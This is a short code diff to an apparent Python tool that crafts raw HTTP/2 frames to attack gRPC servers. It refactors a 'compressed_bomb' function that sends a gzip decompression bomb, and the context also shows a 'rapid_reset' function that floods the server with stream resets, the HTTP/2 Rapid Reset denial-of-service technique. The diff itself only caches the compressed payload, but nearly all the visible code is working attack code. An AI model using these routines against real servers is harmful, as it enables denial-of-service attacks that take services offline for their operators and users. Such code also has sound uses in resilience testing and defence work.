@@ -1,5 +1,6 @@
 """HTTP/2 frames by hand (RFC 9113, RFC 7541), and what can be done to a gRPC port with them."""
 import contextlib
+import functools
 import socket
 import time
 import zlib
@@ -135,10 +136,15 @@ def rapid_reset(connection, token, requests=100_000):
                           frame(RESET, 0, 2 * number + 1, bytes(4)) for number in range(first, first + 200)))
 
 
+@functools.cache
+def _compressed_zeros(megabytes):
+    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
+    return b"".join(compressor.compress(bytes(1 << 20)) for _ in range(megabytes)) + compressor.flush()
+
+
 def compressed_bomb(connection, token, megabytes=256):
     """One message of that size, all zeros, in a thousandth of it."""
-    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
-    body = b"".join(compressor.compress(bytes(1 << 20)) for _ in range(megabytes)) + compressor.flush()
+    body = _compressed_zeros(megabytes)
     message = b"\x01" + len(body).to_bytes(4, "big") + body
     connection.send(frame(HEADERS, END_HEADERS, 1, request(token, extra=field(b"grpc-encoding", b"gzip"))))
     for at in range(0, min(len(message), 65_000), 16_000):
